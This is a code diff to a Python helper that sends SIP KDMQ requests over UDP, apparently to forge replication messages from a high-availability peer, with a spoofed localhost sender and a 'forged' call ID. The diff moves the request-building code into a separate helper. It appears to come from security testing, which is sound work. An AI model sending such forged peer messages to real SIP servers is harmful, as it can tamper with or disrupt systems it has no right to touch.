@@ -118,15 +118,7 @@ def kdmq(to_ip, body, from_ip="127.0.0.1", src=("127.0.0.22", 5099),
     s.bind(src)
     s.settimeout(3)
     cid = f"forged-{time.monotonic_ns()}"
-    req = (f"KDMQ sip:ha_pair@{to_ip}:5060 SIP/2.0\r\n"
-           f"Via: SIP/2.0/UDP {src[0]}:{src[1]};branch=z9hG4bK{cid};rport\r\n"
-           f"From: <sip:ha_pair@{from_ip}:5060>;tag={cid}\r\n"
-           f"To: <sip:ha_pair@{to_ip}:5060>\r\n"
-           f"Call-ID: {cid}\r\n"
-           f"CSeq: 1 KDMQ\r\n"
-           f"Max-Forwards: 1\r\n"
-           f"Content-Type: {ct}\r\n"
-           f"Content-Length: {len(body)}\r\n\r\n{body}")
+    req = poolseal.kdmq_request(to_ip, body, src, cid, from_ip, ct)
     try:
         s.sendto(req.encode(), (to_ip, 5060))
         while True:
